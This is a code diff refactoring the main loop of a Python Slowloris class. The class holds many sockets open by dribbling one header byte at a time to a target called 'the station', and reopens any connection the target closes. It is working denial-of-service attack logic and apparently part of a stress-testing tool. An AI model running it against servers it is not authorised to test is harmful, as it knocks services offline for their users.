@@ -254,6 +254,11 @@ class Slowloris:
         self.socks[i] = s
         self.pos[i] = 0
 
+    def _lost(self, i: int, s: socket.socket) -> None:
+        self.closed_by_station += 1
+        s.close()
+        self._open(i)
+
     def _run(self) -> None:
         end = time.monotonic() + self.for_s
         for i in range(self.n):
@@ -266,26 +271,20 @@ class Slowloris:
                 if s is None:
                     self._open(i)
                     continue
-                try:
-                    if s.recv(1, socket.MSG_DONTWAIT) == b"":
-                        raise ConnectionResetError
-                except BlockingIOError:
-                    pass
-                except OSError:
-                    self.closed_by_station += 1
-                    s.close()
-                    self._open(i)
-                    continue
                 k = self.pos[i]
                 try:
-                    s.send(HEAD[k : k + 1] if k < len(HEAD) else b"a")
-                    self.pos[i] += 1
+                    if s.recv(1, socket.MSG_DONTWAIT) == b"":
+                        raise ConnectionResetError  # the station closed it
                 except BlockingIOError:
-                    pass
+                    try:
+                        s.send(HEAD[k : k + 1] if k < len(HEAD) else b"a")
+                        self.pos[i] += 1
+                    except BlockingIOError:
+                        pass
+                    except OSError:
+                        self._lost(i, s)
                 except OSError:
-                    self.closed_by_station += 1
-                    s.close()
-                    self._open(i)
+                    self._lost(i, s)
             self.open_now = sum(1 for s in self.socks if s is not None)
             step += 1
             self.done.wait(self.every_s / 4)
